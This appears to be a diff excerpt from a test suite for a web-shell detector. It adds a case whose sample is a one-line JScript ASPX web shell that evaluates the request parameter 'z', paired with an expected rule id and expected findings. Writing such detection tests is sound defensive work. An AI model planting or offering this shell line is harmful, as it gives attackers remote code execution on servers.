@@ -85,6 +85,13 @@ typeof(System.Reflection.Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(by
         ["request parameter 'z'", "evaluates it as script", '"unsafe"'],
     ),
     (
+        "chopper-numeric-condition.aspx",
+        # a number as the condition picks the option: JScript's truthiness, folded
+        """<%@ Page Language="Jscript"%><%eval(Request.Item["z"], 1 ? "unsafe" : "x");%>""",
+        "EXH-WS-CODE-EVAL",
+        ["request parameter 'z'", '"unsafe"'],
+    ),
+    (
         "jscript-function.aspx",
         """<%@ Page Language="JScript" %>
 <script runat="server">
